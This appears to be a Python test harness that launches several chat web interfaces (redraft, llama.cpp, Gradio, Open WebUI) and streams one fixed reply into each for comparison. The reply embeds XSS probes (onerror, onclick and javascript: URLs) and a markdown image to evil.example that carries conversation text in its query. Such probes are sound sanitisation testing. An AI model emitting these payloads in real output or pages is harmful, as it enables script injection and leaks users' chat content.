"""The pages that `page.py` tries: how each is started, opened and asked. All give the same reply."""

from __future__ import annotations

import importlib.util
import json
import os
import socket
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from contextlib import AbstractContextManager, contextmanager
from dataclasses import dataclass
from importlib.metadata import version
from pathlib import Path
from typing import Any

import httpx

REPLY = """<think>Let me see.</think>
| name | mm |
|---|--:|
| rain | 12 |

It costs $5 or $6. Energy is $E = mc^2$, and

$$
\\int_0^1 x\\,dx
$$

```python
def rain(): return 1
```

المطر ماء

<img class="bait" src=x onerror="document.title='owned'"> <b class="bait" onclick="x()">bold</b>
<iframe class="bait" src="javascript:document.title='owned'"></iframe>
[link](javascript:document.title='owned')
![picture](https://evil.example/p.png?what-you-said)
"""
SCRIPT = """import sys, gradio as gr
reply = open(sys.argv[1]).read()
def answer(message, history):
    for end in range(0, len(reply) + 40, 40):
        yield reply[:end]
gr.ChatInterface(answer, save_history=True, editable=True).launch(server_port=int(sys.argv[2]), quiet=True)
"""


@dataclass
class Peer:
    """A page that runs."""

    url: str
    box: str
    version: str
    route: Callable[[Any], None] = repr

    def open(self, page: Any) -> None:
        """Go to the page, and wait until it can be used."""
        self.route(page)
        page.goto(self.url)
        page.locator(self.box).last.wait_for()
        page.wait_for_timeout(1500)

    def ask(self, page: Any, text: str) -> None:
        """Ask something."""
        box = page.locator(self.box).last
        box.click()
        page.keyboard.type(text)
        page.keyboard.press("Enter")


def free_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return int(sock.getsockname()[1])


@contextmanager
def process(command: list[str], url: str, folder: Path, **env: str) -> Iterator[None]:
    """Run a server until it answers, and end it."""
    with (
        (folder / "log").open("w") as log,
        subprocess.Popen(command, stdout=log, stderr=log, cwd=folder, env={**os.environ, **env}) as running,
    ):
        try:
            for _ in range(600):
                try:
                    if httpx.get(url, timeout=5).status_code < 500:
                        break
                except httpx.HTTPError:
                    time.sleep(0.5)
            yield
        finally:
            running.kill()


def scripted(folder: Path, port: int) -> tuple[list[str], str]:
    draft = REPLY.replace("12", "13")  # is revised
    lines = map(json.dumps, ({"settings": {"chunk": 40}}, draft, REPLY))
    (folder / "reply.jsonl").write_text("\n".join(lines) + "\n")
    command = [
        sys.executable,
        "-m",
        "redraft",
        "serve",
        "--model",
        "script:reply.jsonl",
        "--check",
        "lacks:13",
    ]
    return [*command, "--max-tokens", "5000", "--port", str(port)], f"http://127.0.0.1:{port}/"


@contextmanager
def redraft(folder: Path, _: str | None) -> Iterator[Peer | None]:
    command, url = scripted(folder, free_port())
    with process(command, f"{url}ready", folder):
        yield Peer(url, "#box", version("redraft"))


@contextmanager
def llama(folder: Path, _: str | None) -> Iterator[Peer | None]:
    """Serve llama.cpp's own page. The browser puts the reply in place of the model's."""
    from redraft.engines.llamacpp.default_model import fetch_default

    port, script = free_port(), Path(__file__).parent.parent / "tests/servers/llama_server.py"
    command = [sys.executable, str(script), str(fetch_default(show=False)), "", "--port", str(port)]
    thought, answer = REPLY.removeprefix("<think>").split("</think>")  # its server keeps them apart
    deltas: list[dict[str, str]] = [{"reasoning_content": thought}]
    deltas += [{"content": answer[at : at + 40]} for at in range(0, len(answer), 40)]
    chunks = [{"choices": [{"index": 0, "delta": delta}]} for delta in deltas]
    body = "".join(f"data: {json.dumps(each)}\n\n" for each in chunks) + "data: [DONE]\n\n"

    def route(page: Any) -> None:
        page.route(
            "**/chat/completions", lambda each: each.fulfill(body=body, content_type="text/event-stream")
        )

    with process(command, f"http://127.0.0.1:{port}/health", folder):
        yield Peer(f"http://127.0.0.1:{port}/", "textarea", version("xllamacpp"), route)


@contextmanager
def gradio(folder: Path, _: str | None) -> Iterator[Peer | None]:
    if importlib.util.find_spec("gradio") is None:
        yield None
        return
    port = free_port()
    (folder / "reply.md").write_text(REPLY)
    (folder / "chat.py").write_text(SCRIPT)
    url = f"http://127.0.0.1:{port}/"
    with process(
        [sys.executable, "chat.py", "reply.md", str(port)], url, folder, GRADIO_ANALYTICS_ENABLED="False"
    ):
        yield Peer(url, "textarea", version("gradio"))


@contextmanager
def open_webui(folder: Path, command: str | None) -> Iterator[Peer | None]:
    if command is None:
        yield None
        return
    behind, port = free_port(), free_port()
    serving, api = scripted(folder, behind)
    url, data = f"http://127.0.0.1:{port}/", folder / "webui"
    data.mkdir()
    own = {
        "WEBUI_AUTH": "False", "DATA_DIR": str(data),
        "OPENAI_API_BASE_URL": f"{api}v1", "OPENAI_API_KEY": "none",
        "ENABLE_OLLAMA_API": "False", "OFFLINE_MODE": "True", "HF_HUB_OFFLINE": "1",
        "RAG_EMBEDDING_ENGINE": "openai",
        "BYPASS_EMBEDDING_AND_RETRIEVAL": "True", "ENABLE_VERSION_UPDATE_CHECK": "False",
    }  # fmt: skip
    name = subprocess.run(
        [str(Path(command).parent / "pip"), "show", "open-webui"], capture_output=True, text=True
    )
    found = name.stdout.partition("Version: ")[2].split("\n")[0]
    with (
        process(serving, f"{api}ready", folder),
        process([command, "serve", "--port", str(port)], f"{url}health", data, **own),
    ):
        yield Peer(url, "#chat-input", found)


Starting = Callable[[Path, "str | None"], AbstractContextManager["Peer | None"]]
PEERS: dict[str, Starting] = {
    "redraft": redraft, "llama.cpp's page, in xllamacpp": llama,
    "Gradio's ChatInterface": gradio, "Open WebUI": open_webui,
}  # fmt: skip
